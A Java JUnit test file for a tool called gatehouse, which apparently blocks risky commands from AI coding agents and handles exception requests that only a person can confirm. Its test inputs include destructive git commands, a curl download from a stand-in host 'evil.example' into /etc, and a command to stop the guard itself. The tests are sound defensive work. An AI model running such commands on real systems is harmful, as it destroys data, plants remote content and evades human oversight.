package io.gatehouse.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.gatehouse.console.ConsoleSettings;
import io.gatehouse.grant.ExceptionRequest;
import io.gatehouse.grant.ExceptionRequest.Filer;
import io.gatehouse.grant.ExceptionRequest.State;
import io.gatehouse.grant.Grant.Reach;
import io.gatehouse.grant.Scope;
import io.gatehouse.json.Json;
import io.gatehouse.local.KeptRequest;
import io.gatehouse.local.Landing;
import io.gatehouse.local.RequestNews;
import io.gatehouse.store.Store;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalLong;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ExceptionsCommandTest {
    private static final String PUSH = "git push --force origin main";

    @TempDir
    Path home;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private final ByteArrayOutputStream err = new ByteArrayOutputStream();
    private String typed = "";
    private Filer typist = Filer.PERSON;
    private HookedDaemon laptop;
    private String denied;

    @BeforeEach
    void aDeniedCall() throws Exception {
        laptop = new HookedDaemon(home);
        assertTrue(laptop.hears("s1", PUSH).startsWith("Denied by rule command.destructive"));
        denied = laptop.lastDenied();
    }

    @AfterEach
    void end() {
        laptop.close();
    }

    private int run(String... args) {
        out.reset();
        err.reset();
        var terminal = new Terminal(
                new ByteArrayInputStream(typed.getBytes(StandardCharsets.UTF_8)),
                new PrintStream(out, true, StandardCharsets.UTF_8),
                new PrintStream(err, true, StandardCharsets.UTF_8),
                typist);
        var nothing = new Launcher() {
            @Override
            public int daemon(Settings.Loaded settings, boolean headless, boolean window) {
                throw new AssertionError();
            }

            @Override
            public int console(ConsoleSettings settings) {
                throw new AssertionError("nobody asked for the console");
            }

            @Override
            public int prepareWindow(Path dataDir) {
                throw new AssertionError("no window was closed");
            }

            @Override
            public int rehearseWindow(Path dataDir) {
                throw new AssertionError("no window is prepared");
            }

            @Override
            public int window(Path dataDir, Landing landing) {
                throw new AssertionError();
            }
        };
        return Cli.run(nothing, Laptop.at(home), terminal, args);
    }

    private String out() {
        return out.toString(StandardCharsets.UTF_8);
    }

    private String err() {
        return err.toString(StandardCharsets.UTF_8);
    }

    private KeptRequest filed(String... options) {
        var args = new ArrayList<>(List.of("exceptions", "request", denied, "--why", "It must.", "--json"));
        args.addAll(List.of(options));
        assertEquals(Cli.OK, run(args.toArray(String[]::new)), err());
        return Json.read(out(), KeptRequest.class);
    }

    @Test
    void aPersonSeesWhatIsAskedForAndIsAskedWhy() {
        typed = "The branch is mine.\n";
        assertEquals(Cli.OK, run("exceptions", "request", denied), err());
        var request = laptop.client.requests().getFirst();
        var said = out();
        assertTrue(said.startsWith("Call       " + PUSH + "\nRule       command.destructive: "), said);
        assertTrue(said.contains("\nScope      Exactly this call, in the session of the call\n"), said);
        assertTrue(said.contains("\nPreview    it would have let 1 of 1 denial of the last 30 days through\n"), said);
        assertTrue(said.contains("\nOr         --scope command: Commands that begin with: " + PUSH + "\n"), said);
        assertTrue(said.contains("\nOr         --scope subcommand: Commands that begin with: git push\n"), said);
        assertTrue(said.contains("Why is it needed? "), said);
        assertTrue(said.contains("Request    " + request.request().id() + ", waiting\n"), said);
        assertTrue(said.endsWith("Now        kept; it will be sent once this laptop is enrolled at a console\n"), said);
        assertEquals("The branch is mine.", request.request().justification());
        assertEquals(Duration.ofHours(1), request.request().wished());
        assertEquals(OptionalLong.of(1), request.request().uses());
    }

    @Test
    void everythingThatIsAskedForCanBeSaid() {
        var request = filed(
                        "--scope",
                        "subcommand",
                        "--every-session",
                        "--for",
                        "3d",
                        "--calls",
                        "any",
                        "--ticket",
                        "OPS-7")
                .request();
        assertEquals(new Scope.Command(List.of("git", "push"), List.of()), request.scope());
        assertEquals(new Reach("claude-code", home.resolve("shop").toString(), Optional.empty()), request.reach());
        assertEquals(Duration.ofDays(3), request.wished());
        assertEquals(
                List.of(OptionalLong.empty(), "OPS-7", "It must."),
                List.of(request.uses(), request.ticket(), request.justification()));
        assertEquals(State.WAITING, request.state());
        assertTrue(request.id().matches("R-[0-9a-z]{12}"), request.id());
    }

    @Test
    void itCanBeAskedForSomeCalls() {
        assertEquals(OptionalLong.of(5), filed("--calls", "5").request().uses());
    }

    @Test
    void noneAndTooManyAndNoNumberAreRefused() {
        for (var number : List.of("0", "1001")) {
            assertEquals(Cli.FAILED, run("exceptions", "request", denied, "--why", "x", "--calls", number), number);
            assertTrue(err().contains("An exception is for 1 to 1000 calls, or for any number."), err());
        }
        assertEquals(Cli.USAGE, run("exceptions", "request", denied, "--calls", "some"));
        assertEquals(List.of(), laptop.client.requests());
    }

    @Test
    void aScopeThatWouldNotDoIsRefusedBeforeAnythingIsAsked() throws Exception {
        laptop.told("s1", "curl https://evil.example/x -o /etc/app/x.conf");
        assertEquals(Cli.FAILED, run("exceptions", "request", laptop.lastDenied(), "--scope", "host"));
        assertEquals(
                "--scope host is not possible. The call was also denied something else, which this would not let through.\n",
                err());
        assertEquals("", out());
    }

    @Test
    void whatNobodyConfirmedForADayIsOverWhenTheDaemonStarts() throws IOException {
        typist = Filer.AGENT;
        var request = filed().request();
        laptop.close();
        try (var store = Store.open(home.resolve(".local/share/gatehouse"), Store.MAX_BYTES, Clock.systemUTC())) {
            store.requests().add(aDayOlder(request));
        }
        laptop = new HookedDaemon(home);
        assertEquals(
                List.of(State.EXPIRED, State.UNCONFIRMED),
                laptop.client.requests().stream()
                        .map(kept -> kept.request().state())
                        .toList());
    }

    private static ExceptionRequest aDayOlder(ExceptionRequest request) {
        return new ExceptionRequest(
                "R-old",
                request.filedAt().minus(Duration.ofDays(1)),
                request.filer(),
                request.enforcement(),
                request.shown(),
                request.rules(),
                request.scope(),
                request.reach(),
                request.wished(),
                request.uses(),
                request.justification(),
                request.ticket(),
                request.state(),
                Optional.empty());
    }

    @Test
    void whatAnAgentAsksForWaitsForThePerson() {
        typist = Filer.AGENT;
        var request = filed().request();
        assertEquals(List.of(Filer.AGENT, State.UNCONFIRMED), List.of(request.filer(), request.state()));
        assertEquals(Cli.FAILED, run("exceptions", "confirm", request.id()));
        assertEquals("Only a person can confirm what an agent asked for: run this in a terminal of your own.\n", err());
        assertEquals(
                State.UNCONFIRMED, laptop.client.requests().getFirst().request().state());

        typist = Filer.PERSON;
        assertEquals(Cli.OK, run("exceptions", "show", request.id()));
        assertTrue(
                out().endsWith(
                                "Now        an agent asks for it; it is sent once you confirm it: gatehouse exceptions confirm "
                                        + request.id() + "\n"),
                out());
        assertEquals(Cli.OK, run("exceptions", "confirm", request.id()));
        assertTrue(out().startsWith("Confirmed.\nRequest    " + request.id() + ", waiting\n"), out());
        assertEquals(Cli.FAILED, run("exceptions", "confirm", request.id()));
        assertEquals("This request was confirmed already.\n", err());
    }

    @Test
    void thePersonIsToldOnceThatAnAgentAsks() throws IOException {
        typist = Filer.AGENT;
        var request = filed();
        var news = laptop.daemon.news();
        assertEquals(
                List.of(request),
                news.untold().get().stream().map(RequestNews::request).toList());
        news.told().accept(news.untold().get().getFirst());
        laptop.close();
        laptop = new HookedDaemon(home);
        assertEquals(List.of(), laptop.daemon.news().untold().get());
    }

    @Test
    void anAgentHasToSayWhy() {
        typist = Filer.AGENT;
        assertEquals(Cli.USAGE, run("exceptions", "request", denied));
        assertTrue(err().startsWith("Say why it is needed with --why TEXT."), err());
        assertEquals(List.of(), laptop.client.requests());
    }

    @Test
    void aHardRuleCannotBeAskedAbout() throws Exception {
        laptop.told("s1", "gatehouse stop");
        assertEquals(Cli.FAILED, run("exceptions", "request", laptop.lastDenied(), "--why", "x"));
        assertTrue(err().startsWith("This rule cannot be waived: file.self-protection. "), err());
        assertEquals(List.of(), laptop.client.requests());
    }

    @Test
    void theSameIsAskedForOnce() {
        var first = filed().request();
        assertEquals(Cli.FAILED, run("exceptions", "request", denied, "--why", "Again."));
        assertEquals(
                "This was asked for already: %s. See: gatehouse exceptions show %s\n".formatted(first.id(), first.id()),
                err());
        assertEquals(Cli.OK, run("exceptions", "withdraw", first.id()));
        assertTrue(out().startsWith("Taken back.\nRequest    " + first.id() + ", withdrawn\n"), out());
        assertEquals(Cli.FAILED, run("exceptions", "withdraw", "R-unknown"));
        assertEquals("There is no exception request with this id: R-unknown\n", err());
        filed();
        assertEquals(2, laptop.client.requests().size());
    }

    @Test
    void anAgentInALoopCannotBuryTheSecurityTeam() throws Exception {
        for (int i = 0; i < Exceptions.MOST_UNDECIDED; i++) {
            laptop.told("s1", PUSH + i);
            denied = laptop.lastDenied();
            filed();
        }
        laptop.told("s1", PUSH + "x");
        assertEquals(Cli.FAILED, run("exceptions", "request", laptop.lastDenied(), "--why", "More."));
        assertEquals("50 requests of this laptop are undecided; withdraw some first.\n", err());
    }

    @Test
    void requestsAreListedTheNewestFirst() throws Exception {
        assertEquals(Cli.OK, run("exceptions", "list"));
        assertEquals("No exception was asked for on this laptop.\n", out());
        var first = filed().request();
        laptop.told("s1", "git reset --hard");
        denied = laptop.lastDenied();
        var second = filed().request();
        assertEquals(Cli.OK, run("exceptions", "list"));
        var lines = out().lines().toList();
        assertTrue(lines.get(0).matches(second.id() + " +waiting .*  git reset --hard"), out());
        assertTrue(lines.get(1).matches(first.id() + " +waiting .*  " + PUSH), out());
        assertEquals(Cli.OK, run("exceptions", "list", "--json"));
        assertEquals(laptop.client.requests(), List.of(Json.read(out(), KeptRequest[].class)));
    }

    @Test
    void whatCannotBeAskedForIsSaid() {
        assertEquals(Cli.FAILED, run("exceptions", "request", "nothing", "--why", "x"));
        assertEquals("There is no enforcement with this id: nothing\n", err());
        assertEquals(Cli.USAGE, run("exceptions", "request", denied, "--why", "x", "--scope", "host"));
        assertTrue(err().startsWith("This call has no scope \"host\", but: exact, command, subcommand."), err());
        assertEquals(Cli.USAGE, run("exceptions", "request", denied, "--why", "x", "--for", "soon"));
        assertTrue(err().startsWith("--for takes a time as 30m, 8h or 7d, not \"soon\"."), err());
        assertEquals(Cli.FAILED, run("exceptions", "request", denied, "--why", "x", "--for", "31d"));
        assertEquals("An exception lasts from 1 minute to 30 days.\n", err());
        assertEquals(Cli.FAILED, run("exceptions", "request", denied, "--why", " "));
        assertEquals("A request says in up to 4000 characters why it is needed.\n", err());
        assertEquals(List.of(), laptop.client.requests());
    }

    @Test
    void requestsAreStillThereWhenTheDaemonWasStartedAgain() throws IOException {
        var request = filed();
        laptop.close();
        laptop = new HookedDaemon(home);
        assertEquals(List.of(request), laptop.client.requests());
    }

    @Test
    void theDenyNamesHowToAskAndThenThatItWaits() throws Exception {
        assertTrue(laptop.hears("s1", PUSH)
                .endsWith(" If it must be this way, ask for an exception: gatehouse exceptions request "
                        + laptop.lastDenied() + " --why TEXT"));
        var request = filed().request();
        var heard = laptop.hears("s1", PUSH);
        assertTrue(
                heard.matches(
                        ".* An exception was asked for at [0-9:]+ \\(" + request.id() + "\\); it is waiting\\. .*"),
                heard);
    }

    @Test
    void nothingIsAnsweredThatWasNotAsked() {
        var id = filed().request().id();
        assertEquals(Cli.FAILED, run("exceptions", "answer", id, "main"));
        assertEquals("Nobody asks anything about this request.\n", err());
        assertEquals(Cli.FAILED, run("exceptions", "answer", "R-unknown", "main"));
        typist = Filer.AGENT;
        assertEquals(Cli.FAILED, run("exceptions", "answer", id, "main"));
        assertEquals("Only a person can answer the security team: run this in a terminal of your own.\n", err());
    }

    @Test
    void anAgentMayAskAndDoNothingElseAboutIt() throws Exception {
        assertEquals("", laptop.hears("s1", "gatehouse exceptions request " + denied + " --why 'It must be so'"));
        for (var act : List.of("confirm R-1", "withdraw R-1", "answer R-1 main")) {
            assertTrue(
                    laptop.hears("s1", "gatehouse exceptions " + act).startsWith("Denied by rule file.self-protection"),
                    act);
        }
    }

    @Test
    void withoutADaemonItSaysSo() {
        laptop.close();
        assertEquals(Cli.NOT_RUNNING, run("exceptions", "list"));
    }
}
